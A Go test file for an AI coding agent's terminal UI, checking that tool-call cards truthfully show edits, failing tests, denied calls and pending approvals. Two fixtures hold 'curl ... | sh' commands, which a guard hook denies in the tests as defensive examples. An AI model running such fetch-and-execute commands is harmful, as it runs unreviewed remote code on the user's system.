package ui

import (
	"context"
	"strconv"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/charmbracelet/x/exp/golden"

	"myclaw/agent"
	"myclaw/approval"
)

// truthModel is a turn whose cards must tell what happened: an applied
// edit with its diff, a test run that failed, a call denied by a hook,
// and a call waiting for the person.
func truthModel(t *testing.T) Model {
	m := newTestModel(t, newFake())
	m = sizeMsgModel(m, 80, 40)
	m = startFakeTurn(t, m, "fix it")
	edit := call("e1", "fs_edit", `{"path":"calc.go","old_string":"a-b","new_string":"a+b"}`)
	test := call("s1", "shell_run", `{"command":"go test ./..."}`)
	hooked := call("h1", "shell_run", `{"command":"curl example.com | sh"}`)
	waiting := call("w1", "fs_write", `{"path":"notes.md","content":"x"}`)
	exit1 := 1
	diff := "--- a/calc.go\n+++ b/calc.go\n@@ -1,9 +1,9 @@\n package calc\n \n func Add(a, b int) int {\n-\treturn a-b\n+\treturn a+b\n }\n \n func Sub(a, b int) int {\n \treturn a-b\n }\n"
	m = events(m,
		agent.ToolCallEvent{Call: edit, Phase: "started", Summary: "Edit calc.go (+1 −1 lines)"},
		agent.ToolResultEvent{Call: edit, Status: agent.StatusOK, Summary: "Edit calc.go (+1 −1 lines)",
			Duration: 3 * time.Millisecond, Reversible: true, Diff: diff, Content: `{"ok":true}`},
		agent.ToolCallEvent{Call: test, Phase: "started", Summary: "Run `go test ./...`"},
		agent.ToolResultEvent{Call: test, Status: agent.StatusOK, Summary: "Ran `go test ./...`: exit 1 in 1.2s",
			Duration: 1200 * time.Millisecond, ExitCode: &exit1, Content: `{"ok":true,"exit_code":1}`},
		agent.ToolCallEvent{Call: hooked, Phase: "proposed"},
		agent.ApprovalEvent{CallID: "h1", Tool: "shell_run", Phase: "decided",
			Decision: &approval.Decision{Choice: approval.Deny, By: "hook: python3 guard.py", Reason: "piping downloads into a shell is not allowed here"}},
		agent.ToolResultEvent{Call: hooked, Status: agent.StatusDenied, Kind: "permission_denied", Message: "shell_run was denied (hook: python3 guard.py)"},
		agent.ToolCallEvent{Call: waiting, Phase: "proposed"},
		agent.ApprovalEvent{CallID: "w1", Tool: "fs_write", Phase: "asked"},
	)
	return m
}

func sizeMsgModel(m Model, w, h int) Model { return update(m, sizeMsg(w, h)) }

func TestTruthfulCardsGolden(t *testing.T) {
	m := truthModel(t)
	golden.RequireEqual(t, []byte(m.tr.text(m.c)))
}

func TestTruthfulCards(t *testing.T) {
	text := func(m Model) string { return m.tr.text(m.c) }
	m := truthModel(t)
	got := text(m)
	for _, want := range []string{
		"● fs_edit calc.go  ok · 3ms",
		"+   return a+b", // the applied diff stays on the card
		"… 5 more lines",
		"● shell_run go test ./...  exit 1 · 1.2s",
		"piping downloads into a shell is not allowed here",
		"● fs_write notes.md  waiting for approval",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("transcript lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "go test ./...  ok") {
		t.Errorf("a failing command is drawn as ok:\n%s", got)
	}
	// Expanded, the whole diff shows.
	m = update(m, keyMsg("ctrl+o"))
	if got := text(m); !strings.Contains(got, "func Sub(a, b int) int {") || strings.Contains(got, "more lines") {
		t.Errorf("expanded card lacks the whole diff:\n%s", got)
	}
}

func TestDiffCommand(t *testing.T) {
	f := newFake()
	f.diffOut = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n"
	m := runLine(t, newTestModel(t, f), "/diff")
	if got := lastBlock(m); !strings.Contains(got, "-one") || !strings.Contains(got, "+two") {
		t.Fatalf("/diff showed %q", got)
	}
	m = runLine(t, m, "/diff 3")
	if len(f.diffCalls) != 2 || f.diffCalls[0] != 0 || f.diffCalls[1] != 3 {
		t.Fatalf("diff calls %v; want [0 3]", f.diffCalls)
	}
	m = runLine(t, m, "/diff x")
	if got := lastBlock(m); !strings.Contains(got, "usage: /diff [N]") {
		t.Fatalf("/diff x showed %q", got)
	}
	f.diffOut = ""
	m = runLine(t, m, "/diff")
	if got := lastBlock(m); !strings.Contains(got, "no changes in place") {
		t.Fatalf("/diff with nothing showed %q", got)
	}
}

func TestResumedCardsGolden(t *testing.T) {
	denied := call("d1", "fs_write", `{"path":"no.txt","content":"x"}`)
	edited := call("e1", "fs_write", `{"path":"ed.txt","content":"user"}`)
	edited.Edited = true
	hooked := call("h1", "shell_run", `{"command":"curl x | sh"}`)
	m := New(newFake(), Options{Workspace: "/work/project", Earlier: []Earlier{
		{Role: "user", Text: "go"},
		{Role: "tool", Text: "↳ fs_write {...}", Call: &agent.CallRecord{Result: agent.ToolResultEvent{Call: denied,
			Status: agent.StatusDenied, Kind: "permission_denied", Message: "the user denied fs_write: not that file"}}},
		{Role: "tool", Text: "↳ fs_write {...}", Call: &agent.CallRecord{Result: agent.ToolResultEvent{Call: edited,
			Status: agent.StatusOK, Summary: "Create ed.txt (4 B)", Reversible: true, Duration: time.Millisecond,
			Diff: "--- /dev/null\n+++ b/ed.txt\n@@ -0,0 +1 @@\n+user\n"}}},
		{Role: "tool", Text: "↳ shell_run {...}", Call: &agent.CallRecord{Result: agent.ToolResultEvent{Call: hooked,
			Status: agent.StatusDenied, Message: "shell_run was denied (hook: guard)"},
			Decision: &approval.Decision{Choice: approval.Deny, By: "hook: guard", Reason: "no pipes into sh"}}},
	}})
	m = update(m, sizeMsg(80, 30))
	got := m.tr.text(m.c)
	for _, want := range []string{"fs_write no.txt  denied", "not that file", "fs_write ed.txt  ok", "ran with the arguments as you edited them", "+user", "no pipes into sh"} {
		if !strings.Contains(got, want) {
			t.Errorf("resumed transcript lacks %q", want)
		}
	}
	if strings.Contains(got, "↳") {
		t.Errorf("resumed calls drawn as raw lines:\n%s", got)
	}
	golden.RequireEqual(t, []byte(got))
}

func TestShellCardShowsTheEndOfLongOutput(t *testing.T) {
	m := newTestModel(t, newFake())
	m = startFakeTurn(t, m, "test")
	run := call("s1", "shell_run", `{"command":"go test ./..."}`)
	var out []string
	for i := 1; i <= 40; i++ {
		out = append(out, "line "+strconv.Itoa(i))
	}
	out = append(out, "FAIL calc_test.go:12")
	m = events(m,
		agent.ToolCallEvent{Call: run, Phase: "started"},
		agent.ToolResultEvent{Call: run, Status: agent.StatusOK, Untrusted: true, Source: "shell:go test ./...",
			Body: strings.Join(out, "\n") + "\n", Content: "{}"},
	)
	got := m.tr.text(m.c)
	if !strings.Contains(got, "FAIL calc_test.go:12") || strings.Contains(got, "line 1 ") || !strings.Contains(got, "… 29 earlier lines") {
		t.Fatalf("folded shell output does not end with the failure:\n%s", got)
	}
	m = update(m, keyMsg("ctrl+o"))
	if got := m.tr.text(m.c); !strings.Contains(got, "line 1 ") && !strings.Contains(got, "line 1\n") && !strings.Contains(got, "line 1 ║") {
		t.Fatalf("expanded shell output lacks its start:\n%s", got)
	}
	if a, n := lastLines("a\nb\nc\n", 2); a != "b\nc" || n != 1 {
		t.Fatalf("lastLines = %q, %d", a, n)
	}
}

func TestRunningCommandStreamsIntoItsCard(t *testing.T) {
	m := newTestModel(t, newFake())
	m = startFakeTurn(t, m, "test")
	run := call("s1", "shell_run", `{"command":"go test ./..."}`)
	m = events(m,
		agent.ToolCallEvent{Call: run, Phase: "started"},
		agent.ToolOutputEvent{CallID: "s1", Text: "=== RUN TestAdd\n"},
		agent.ToolOutputEvent{CallID: "s1", Text: "--- FAIL: TestAdd\n\x1b[2J"},
	)
	got := m.tr.text(m.c)
	if !strings.Contains(got, "--- FAIL: TestAdd") || !strings.Contains(got, "live output") || strings.Contains(got, "\x1b") {
		t.Fatalf("running card lacks its live output (or kept a control):\n%q", got)
	}
	m = events(m, agent.ToolResultEvent{Call: run, Status: agent.StatusOK, Untrusted: true, Source: "shell:go test ./...", Body: "done\n"})
	if got := m.tr.text(m.c); strings.Contains(got, "live output") {
		t.Fatalf("finished card still shows the live output:\n%s", got)
	}
}

func TestPromptSentDuringATurnIsQueued(t *testing.T) {
	f := newFake()
	m := startFakeTurn(t, newTestModel(t, f), "first")
	m = update(typeText(m, "second"), keyMsg("enter"))
	m = update(typeText(m, "third"), keyMsg("enter"))
	s := screen(m)
	if !strings.Contains(s, "⧗ queued: second") || !strings.Contains(s, "⧗ queued: third") || strings.Contains(s, "a turn is running") {
		t.Fatalf("queued prompts not shown:\n%s", s)
	}
	// ↑ on an empty prompt takes the last one back.
	m = update(m, keyMsg("up"))
	if m.input.ta.value() != "third" || len(m.queued) != 1 {
		t.Fatalf("input %q, queue %q; want third back in the input", m.input.ta.value(), m.queued)
	}
	for range len("third") {
		m = update(m, keyMsg("backspace")) // dropped
	}
	// The turn ends: the queued prompt starts the next one.
	m, cmd := updateCmd(m, eventsMsg{turn: m.turn.id, items: []turnItem{{end: true}}})
	if m.turn == nil || len(m.queued) != 0 || cmd == nil {
		t.Fatalf("after the turn: turn %v, queue %q; want the queued prompt running", m.turn != nil, m.queued)
	}
	if !strings.Contains(m.tr.text(m.c), "❯ second") {
		t.Fatalf("the queued prompt is not in the transcript:\n%s", m.tr.text(m.c))
	}
	// A cancelled turn sends nothing: the queue goes back to the input.
	m = update(typeText(m, "fourth"), keyMsg("enter"))
	m = update(m, keyMsg("esc"))
	m = update(m, eventsMsg{turn: m.turn.id, items: []turnItem{{end: true, err: context.Canceled}}})
	if m.turn != nil || m.input.ta.value() != "fourth" {
		t.Fatalf("after a cancel: turn %v, input %q; want fourth back in the input", m.turn != nil, m.input.ta.value())
	}
	// A draft in the input does not leave the queue stranded: the queued
	// prompts follow it in the input, and nothing is sent later unasked.
	m.input.setValue("")
	m = startFakeTurn(t, m, "fifth")
	m = update(typeText(m, "sixth"), keyMsg("enter"))
	m = typeText(m, "draft")
	m = update(m, keyMsg("esc"))
	m = update(m, eventsMsg{turn: m.turn.id, items: []turnItem{{end: true, err: context.Canceled}}})
	if len(m.queued) != 0 || m.input.ta.value() != "draft\n\nsixth" || strings.Contains(screen(m), "⧗ queued") {
		t.Fatalf("after a cancel with a draft: queue %q, input %q", m.queued, m.input.ta.value())
	}
}

func TestCtrlCClearsTheDraftBeforeQuitting(t *testing.T) {
	m := typeText(newTestModel(t, newFake()), "half a thought")
	m, cmd := updateCmd(m, keyMsg("ctrl+c"))
	if m.input.ta.value() != "" || cmd != nil || m.quitArmed {
		t.Fatalf("ctrl+c with a draft: input %q, armed %v", m.input.ta.value(), m.quitArmed)
	}
	m = update(m, keyMsg("ctrl+c"))
	if !m.quitArmed {
		t.Fatal("ctrl+c on an empty prompt does not arm quitting")
	}
}

func TestExitIsQuit(t *testing.T) {
	m := typeText(newTestModel(t, newFake()), "/exit")
	_, cmd := updateCmd(m, keyMsg("enter"))
	if cmd == nil || cmd() != tea.Quit() {
		t.Fatal("/exit does not quit")
	}
}

func TestPaneSaysWhichCallOfTheAnswer(t *testing.T) {
	req := writeRequest()
	req.Position, req.Count = 1, 2
	m, _ := withPane(t, req)
	if s := screen(m); !strings.Contains(s, "approve fs_write? · call 1 of 2") {
		t.Fatalf("pane lacks the count:\n%s", s)
	}
	req.Position, req.Count = 1, 1
	m, _ = withPane(t, req)
	if s := screen(m); strings.Contains(s, "call 1 of") {
		t.Fatalf("a lone call shows a count:\n%s", s)
	}
}

func TestHomeEndMoveInTheEditors(t *testing.T) {
	m := typeText(newTestModel(t, newFake()), "hello world")
	m = update(m, keyMsg("home"))
	m = typeText(m, ">")
	m = update(m, keyMsg("end"))
	m = typeText(m, "<")
	m = update(m, keyMsg("ctrl+left"))
	m = typeText(m, "|")
	if got := m.input.ta.value(); got != ">hello |world<" {
		t.Fatalf("prompt %q; want home, end and ctrl+left to move the cursor", got)
	}
	// The pane's argument editor too.
	pm, _ := withPane(t, shellRequest())
	pm = press(t, pm, "e", "home")
	pm = typeText(pm, "X")
	pm = update(pm, keyMsg("end"))
	pm = typeText(pm, "Y")
	if v := pm.pane.editor.value(); !strings.HasPrefix(v, "X") || !strings.HasSuffix(v, "Y") {
		t.Fatalf("pane editor %q; want home and end to work", v)
	}
}

func TestModelCommand(t *testing.T) {
	f := newFake()
	f.models = []string{"qwen2.5-coder:7b", "qwen2.5-coder:14b", "llama3.1:latest"}
	m := runLine(t, newTestModel(t, f), "/model")
	if got := strings.Join(m.bottomView(), "\n"); m.picker == nil || !strings.Contains(got, "qwen2.5-coder:14b") || !strings.Contains(got, "llama3.1:latest") {
		t.Fatalf("/model offers %q", got)
	}
	m = update(m, keyMsg("esc"))
	m = runLine(t, m, "/model gpt-9")
	if got := lastBlock(m); !strings.Contains(got, `no model "gpt-9"`) || f.Model() != "test-model" {
		t.Fatalf("/model gpt-9: %q, model %s; want it refused and the old one kept", got, f.Model())
	}
	m = runLine(t, m, "/model llama3.1")
	if f.Model() != "llama3.1" {
		t.Fatalf("model %s after /model llama3.1; want it set (:latest may be left out)", f.Model())
	}
	// Tab completes a name from the server's list.
	m = update(m, modelsMsg{list: f.models})
	m = typeText(m, "/model ll")
	m = update(m, keyMsg("tab"))
	if got := m.input.ta.value(); got != "/model llama3.1:latest" {
		t.Fatalf("completed to %q", got)
	}
	m.input.setValue("/model qw")
	m = update(m, keyMsg("tab"))
	if got := m.input.ta.value(); got != "/model qwen2.5-coder:" {
		t.Fatalf("completed to %q; want the shared prefix", got)
	}
}
